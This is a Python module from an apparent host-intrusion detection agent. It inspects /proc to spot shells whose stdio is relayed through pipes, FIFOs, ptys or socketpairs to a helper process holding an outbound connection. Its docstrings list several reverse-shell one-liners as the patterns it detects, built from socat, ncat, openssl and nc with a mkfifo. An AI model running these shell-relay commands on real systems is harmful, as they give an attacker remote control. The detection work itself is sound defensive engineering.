# SPDX-License-Identifier: Apache-2.0
"""Shells relayed to a connection by a helper, found in /proc (issue 13 item 4: how TLS-wrapped shells look).

`socat tcp:h:p exec:'bash -li',pty`, `ncat --ssl -e /bin/sh`, python's
`pty.spawn("/bin/sh")` after a connect, `mkfifo f; sh -i <f 2>&1 | openssl
s_client -connect h:p >f`, and `openssl s_client ... | sh | openssl s_client
...` all run a shell whose stdio is a pipe, a FIFO, a pty or a socketpair,
whose other end a helper holds; the helper also holds the outbound
connection. The kernel's stdio records (probes/sock.bpf.h) see none of
this: no socket is ever on the shell's stdio.

So at the exec of a shell or interpreter whose stdin and stdout (or stderr)
are such links, and at each connect() of its parent or a sibling (a
pipeline's members are siblings; socat, ncat and pty.spawn are parents), the
helper's fds are read from /proc: a pipe is the same pipe:[inode] at both
ends, a FIFO the same inode, a pty slave /dev/pts/N the master whose fdinfo
says tty-index N, a socketpair a unix socket held by the parent. Whichever
comes last, the shell's exec or the helper's connect, finds the pair. sshd's
login shells are not found: sshd holds an accepted connection, never a
connect() of its own. What it finds becomes a RelayEvent, recorded, so a
replay raises the same alert.
"""

from __future__ import annotations

import os
import stat
from collections import Counter, OrderedDict
from dataclasses import dataclass, field
from pathlib import Path
from typing import TypeVar

from collector.enrich.programs import shell_name
from collector.enrich.sockets import LocalEnd, local_end
from probes.events import ConnectEvent, Event, ExecEvent, ExitEvent, RelayEvent

TRACKED_MAX = 4096  # shells awaiting a helper, and helpers with connections: each, oldest forgotten first
HOLDER_FDS_MAX = 256  # fds of one helper read: a relay's are few and low
DNS_PORT = 53  # a resolver's connect is no relay
V = TypeVar("V")


O_ACCMODE, O_RDONLY, O_WRONLY = 3, 0, 1  # include/uapi/asm-generic/fcntl.h


@dataclass(frozen=True, slots=True)
class Link:
    kind: str  # "pipe" | "fifo" | "pty" | "unix"
    ident: object  # pipe or socket inode, pty number, or the FIFO's (st_dev, st_ino)
    mode: int = -1  # a pipe's or FIFO's access mode at this end (O_RDONLY, O_WRONLY, O_RDWR); -1 otherwise

    def other_end(self, mode: int) -> bool:
        """Whether an fd of the same pipe or FIFO opened with ``mode`` is the other end of this one, not a copy
        of it (a child's inherited stdin is its parent's stdin too: the same end, no relay)."""
        if self.mode == O_RDONLY:
            return mode != O_RDONLY
        if self.mode == O_WRONLY:
            return mode != O_WRONLY
        return True


@dataclass(slots=True)
class _Shell:
    event: ExecEvent
    links: dict[int, Link]  # of fds 0, 1, 2


@dataclass(slots=True)
class _Holder:
    ppid: int
    comm: str
    connections: list[ConnectEvent] = field(default_factory=list)


class RelayFinder:
    def __init__(self, proc: Path = Path("/proc"), tracked_max: int = TRACKED_MAX) -> None:
        self._proc = proc
        self._max = tracked_max
        self._shells: OrderedDict[int, _Shell] = OrderedDict()
        self._holders: OrderedDict[int, _Holder] = OrderedDict()
        self._born: OrderedDict[int, int] = OrderedDict()  # every exec's tgid -> ppid: a shell's siblings
        self.skipped: Counter[str] = Counter()  # relays not looked for, by reason (for the agent's metrics)

    def __call__(self, event: Event) -> RelayEvent | None:
        if isinstance(event, ExecEvent):
            return self._exec(event)
        if isinstance(event, ConnectEvent):
            return self._connect(event)
        if isinstance(event, ExitEvent):
            self._shells.pop(event.tgid, None)
            self._holders.pop(event.tgid, None)
            self._born.pop(event.tgid, None)
        return None

    def _exec(self, event: ExecEvent) -> RelayEvent | None:
        _put(self._born, event.tgid, event.ppid, self._max)
        self._shells.pop(event.tgid, None)
        self._holders.pop(event.tgid, None)  # a new program: its connections were the old one's
        if shell_name(event.exe, event.filename, event.args) is None:
            return None
        links = self._stdio_links(event.tgid)
        if 0 not in links or not (1 in links or 2 in links):
            return None  # stdin and output must both lead somewhere a helper can hold
        shell = _Shell(event, links)
        found = self._pair(shell, event.ktime_ns)
        if found is None:
            _put(self._shells, event.tgid, shell, self._max)
        return found

    def _connect(self, event: ConnectEvent) -> RelayEvent | None:
        if not event.started or event.dport == DNS_PORT:
            return None
        holder = self._holders.get(event.tgid)
        if holder is None:
            holder = _Holder(event.ppid, event.comm)
            _put(self._holders, event.tgid, holder, self._max)
        holder.connections.append(event)
        del holder.connections[:-8]
        for tgid, shell in list(self._shells.items()):
            if shell.event.ppid not in (event.tgid, event.ppid):
                continue  # neither its parent nor its sibling
            found = self._pair(shell, event.ktime_ns)
            if found is not None:
                del self._shells[tgid]
                return found
        return None

    def _pair(self, shell: _Shell, ktime_ns: int) -> RelayEvent | None:
        """The relay event when helpers related to ``shell`` hold its stdin's and its output's other ends."""
        related = [(tgid, h) for tgid, h in self._holders.items() if shell.event.ppid in (tgid, h.ppid)]
        linked: dict[int, tuple[int, _Holder, ConnectEvent]] = {}
        live: list[tuple[int, _Holder, ConnectEvent, dict[int, str]]] = []
        for tgid, holder in related:
            conn = self._live_connection(tgid, holder)
            if conn is None:
                continue
            fds = self._holder_fds(tgid)
            live.append((tgid, holder, conn, fds))
            for fd, link in shell.links.items():
                if fd not in linked and self._holds(tgid, fds, link, parent=tgid == shell.event.ppid):
                    linked[fd] = (tgid, holder, conn)
        via = None
        if 0 not in linked and (1 in linked or 2 in linked):
            via = self._forwarder(shell, live, linked)
        if 0 not in linked or not (1 in linked or 2 in linked):
            return None
        tgid, holder, conn = linked[0]
        e = shell.event
        return RelayEvent(
            ktime_ns,
            e.pid,
            e.tgid,
            e.ppid,
            e.uid,
            e.cgroup_id,
            e.comm,
            holder=tgid,
            holder_comm=holder.comm,
            link=shell.links[0].kind,
            fds="".join(str(fd) for fd in sorted(linked)),
            fd=conn.fd,
            family=conn.family,
            daddr=conn.daddr,
            dport=conn.dport,
            via=via,
        )

    def _forwarder(
        self,
        shell: _Shell,
        live: list[tuple[int, _Holder, ConnectEvent, dict[int, str]]],
        linked: dict[int, tuple[int, _Holder, ConnectEvent]],
    ) -> int | None:
        """A sibling that copies a holder's output to the shell's stdin: the classic `rm f; mkfifo f; cat f |
        sh -i 2>&1 | nc h p >f`, where cat reads the FIFO nc writes (its stdin, or a FIFO or pipe it opened).
        One hop; fills linked[0]."""
        stdin = shell.links[0]
        if stdin.kind != "pipe":
            return None
        holders = {tgid for tgid, *_ in live}
        siblings = [t for t, ppid in self._born.items() if ppid == shell.event.ppid and t != shell.event.tgid]
        for sibling in siblings[-16:]:
            out = self._link(sibling, 1)
            if sibling in holders or out is None or out.ident != stdin.ident or not stdin.other_end(out.mode):
                continue
            for fd in sorted(self._holder_fds(sibling))[:16]:  # what it reads: stdin, or a FIFO it opened
                source = self._link(sibling, fd) if fd != 1 else None
                if source is None or source.kind not in ("pipe", "fifo") or source.ident == stdin.ident:
                    continue
                for tgid, holder, conn, fds in live:
                    if self._holds(tgid, fds, source, parent=False):
                        linked[0] = (tgid, holder, conn)
                        return sibling
        return None

    def _live_connection(self, tgid: int, holder: _Holder) -> ConnectEvent | None:
        """The helper's latest connection still open to where it went (not closed, not reused)."""
        for conn in reversed(holder.connections):
            if isinstance(local_end(tgid, conn.fd, conn.daddr, conn.dport, self._proc), LocalEnd):
                return conn
        return None

    def _stdio_links(self, tgid: int) -> dict[int, Link]:
        links: dict[int, Link] = {}
        for fd in (0, 1, 2):
            link = self._link(tgid, fd)
            if link is not None:
                links[fd] = link
        return links

    def _link(self, tgid: int, fd: int) -> Link | None:
        path = self._proc / str(tgid) / "fd" / str(fd)
        try:
            target = os.readlink(path)
        except OSError:
            self.skipped["proc_gone"] += 1
            return None
        if target.startswith("pipe:["):
            return Link("pipe", target, self._mode(tgid, fd))
        if target.startswith("socket:["):
            return Link("unix", target) if self._is_unix(tgid, target) else None
        if target.startswith("/dev/pts/") and target[9:].isdigit():
            return Link("pty", int(target[9:]))
        return self._fifo(tgid, fd)

    def _fifo(self, tgid: int, fd: int) -> Link | None:
        """The fd as a FIFO's end (a named pipe: its link is its path), or None when it is something else."""
        try:
            st = os.stat(self._proc / str(tgid) / "fd" / str(fd))
        except OSError:
            return None
        if not stat.S_ISFIFO(st.st_mode):
            return None
        return Link("fifo", (st.st_dev, st.st_ino), self._mode(tgid, fd))

    def _mode(self, tgid: int, fd: int) -> int:
        """The fd's access mode, from the octal `flags:` of /proc/PID/fdinfo/FD (proc(5)); -1 when unreadable."""
        try:
            text = (self._proc / str(tgid) / "fdinfo" / str(fd)).read_text()
        except OSError:
            return -1
        for line in text.splitlines():
            if line.startswith("flags:"):
                try:
                    return int(line.split(":", 1)[1].strip(), 8) & O_ACCMODE
                except ValueError:
                    return -1
        return -1

    def _is_unix(self, tgid: int, target: str) -> bool:
        return target[8:-1] in self._unix_inodes(tgid)

    def _unix_inodes(self, tgid: int) -> frozenset[str]:
        """The inodes of the unix sockets in ``tgid``'s network namespace (/proc/PID/net/unix, column 7)."""
        try:
            text = (self._proc / str(tgid) / "net" / "unix").read_text()
        except OSError:
            return frozenset()
        return frozenset(cols[6] for line in text.splitlines()[1:] if len(cols := line.split()) > 6)

    def _holder_fds(self, tgid: int) -> dict[int, str]:
        fds: dict[int, str] = {}
        try:
            entries = os.listdir(self._proc / str(tgid) / "fd")
        except OSError:
            self.skipped["proc_gone"] += 1
            return fds
        for name in entries[:HOLDER_FDS_MAX]:
            try:
                fds[int(name)] = os.readlink(self._proc / str(tgid) / "fd" / name)
            except (OSError, ValueError):
                continue
        return fds

    def _holds(self, tgid: int, fds: dict[int, str], link: Link, parent: bool) -> bool:
        """Whether the helper ``tgid``, whose fd links are ``fds``, holds the other end of ``link``: not a copy
        of the shell's own end, which a parent keeps when its child inherits its stdio."""
        if link.kind == "pipe":
            return any(t == link.ident and link.other_end(self._mode(tgid, fd)) for fd, t in fds.items())
        if link.kind == "unix":
            unix = self._unix_inodes(tgid) if parent else frozenset()  # the table once, not once per socket
            # a socketpair's other end: a unix socket of the parent's, and the parent no longer holds the
            # shell's own end (socat, node and ncat close it after the fork; a parent whose stdout the shell
            # merely inherited, a journal stream, still holds that very socket)
            return (
                parent
                and link.ident not in fds.values()
                and any(t.startswith("socket:[") and t[8:-1] in unix for t in fds.values())
            )
        if link.kind == "pty":
            return any(
                t in ("/dev/ptmx", "/dev/pts/ptmx") and self._tty_index(tgid, fd) == link.ident for fd, t in fds.items()
            )
        for fd in fds:  # a FIFO: the same inode, the other end
            try:
                st = os.stat(self._proc / str(tgid) / "fd" / str(fd))
            except OSError:
                continue
            if (
                stat.S_ISFIFO(st.st_mode)
                and (st.st_dev, st.st_ino) == link.ident
                and link.other_end(self._mode(tgid, fd))
            ):
                return True
        return False

    def _tty_index(self, tgid: int, fd: int) -> int | None:
        try:
            text = (self._proc / str(tgid) / "fdinfo" / str(fd)).read_text()
        except OSError:
            return None
        for line in text.splitlines():
            if line.startswith("tty-index:"):
                value = line.split(":", 1)[1].strip()
                return int(value) if value.isdigit() else None
        return None


def _put(table: OrderedDict[int, V], key: int, value: V, limit: int) -> None:
    table[key] = value
    table.move_to_end(key)
    while len(table) > limit:
        table.popitem(last=False)
